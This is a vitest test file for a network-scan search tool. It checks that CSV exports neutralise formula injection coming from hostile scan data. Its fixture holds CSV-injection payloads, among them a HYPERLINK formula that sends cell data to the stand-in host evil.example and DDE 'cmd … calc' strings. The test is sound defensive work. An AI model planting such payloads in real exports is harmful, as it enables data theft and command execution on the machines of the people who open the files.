import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempStores, type TempStores } from '../store/testing/temp-stores.js';
import { serviceRow } from '../schema/service-observation.js';
import { writeServices } from '../services/service-writer.js';
import { createEnricher } from '../enrich/index.js';
import { splitCsvLine } from '../enrich/csv-fields.js';
import type { Restriction } from '../store/need-to-know.js';
import { exportSearch } from './export.js';

const ALL: Restriction = { kind: 'all' };

/** What a hostile host can put in a scan result; every value begins with a formula character. */
const HOSTILE = {
  ssh_host_key_type: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  tls_version: '@SUM(1+1)',
  tls_cipher: "+cmd|' /C calc'!A0",
  ssh_hassh: '-2+3+cmd|\' /C calc\'!A0',
  credential_list: '\t=1+1',
  http_body_sha256: '\r=1+1',
  banner: '=cmd',
  product: '@x',
} as const;

async function collect(g: AsyncGenerator<string>): Promise<string> {
  let s = '';
  for await (const c of g) s += c;
  return s;
}

describe('search export as CSV: every text cell is neutralised, numbers stay numbers', () => {
  let stores: TempStores;
  beforeAll(async () => {
    stores = await tempStores('export-csv');
    await writeServices(stores.events, createEnricher({}), [
      serviceRow({
        ip: '192.0.2.7', port: 22, transport: 'tcp', service: 'ssh', status: 'open', ...HOSTILE,
        http_favicon_hash: -1234567, tls_sans: ['=a.example', 'b.example'], cves: ['CVE-2018-18778'], http_headers: { server: '=x' },
      }, '2026-11-01T00:00:00Z'),
    ], { dedupToken: 'hostile' });
  }, 60_000);
  afterAll(() => stores.dispose());

  it('writes the hostile host-key type, TLS version and cipher (and every other text) as inert text', async () => {
    const text = await collect(exportSearch(stores.events, { query: '*', restriction: ALL, format: 'csv' }));
    const records = text.split('\r\n');
    expect(records.at(-1)).toBe('');
    const header = splitCsvLine(records[0] ?? '') ?? [];
    // CR inside a quoted cell: split on the record end only, the reader keeps the cell whole.
    const body = records.slice(1, -1).join('\r\n');
    const row = splitCsvLine(body) ?? [];
    expect(row.length).toBe(header.length);
    const cell = (name: string): string => row[header.indexOf(name)] ?? `missing ${name}`;
    for (const [name, value] of Object.entries(HOSTILE)) expect(cell(name), name).toBe(`'${value}`);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(body).toContain(`"'@SUM(1+1)"`);
    expect(body).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(cell('tls_sans')).toBe("'=a.example;b.example");
    expect(cell('http_headers')).toBe('{"server":"=x"}');
    // Numbers written as numbers, a negative one included.
    expect(cell('http_favicon_hash')).toBe('-1234567');
    expect(body).toContain(',-1234567,');
    expect(cell('port')).toBe('22');
    expect(cell('ip')).toBe('192.0.2.7');
    // No text cell of the record starts a formula (numbers aside).
    for (const c of row.filter((x) => !/^-?\d+(\.\d+)?$/.test(x))) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
